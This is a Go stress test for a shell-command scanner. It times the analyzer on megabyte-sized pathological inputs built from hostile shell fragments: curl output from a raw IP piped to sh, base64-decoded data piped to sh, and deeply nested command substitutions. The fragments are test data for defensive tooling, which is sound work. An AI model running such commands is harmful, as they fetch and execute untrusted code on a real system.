package shellscan

import (
	"strings"
	"testing"
	"time"
)

// TestHostileInputIsCheap feeds megabyte-sized pathological lines: each
// must be judged quickly (bounded recursion, lexing and decoding).
func TestHostileInputIsCheap(t *testing.T) {
	a := analyzer(t)
	inputs := map[string]string{
		"nested subst":   strings.Repeat("$(", 100000),
		"nested backq":   strings.Repeat("bash -c \"$(echo ", 20000),
		"many pipes":     strings.Repeat("curl http://1.2.3.4/x | ", 50000) + "sh",
		"long base64":    "echo " + strings.Repeat("QUFB", 300000) + " | base64 -d | sh",
		"many urls":      strings.Repeat("http://10.0.0.1/a ", 60000),
		"heredocs":       strings.Repeat("cat <<E\n", 30000),
		"quotes":         strings.Repeat("'\"`", 200000),
		"kill many subs": "kill " + strings.Repeat("$(pgrep x) ", 50000),
	}
	for name, in := range inputs {
		start := time.Now()
		a.Analyze(in)
		t.Logf("%s: %v", name, time.Since(start))
		if d := time.Since(start); d > 3*time.Second {
			t.Errorf("%s: %v", name, d)
		}
	}
}
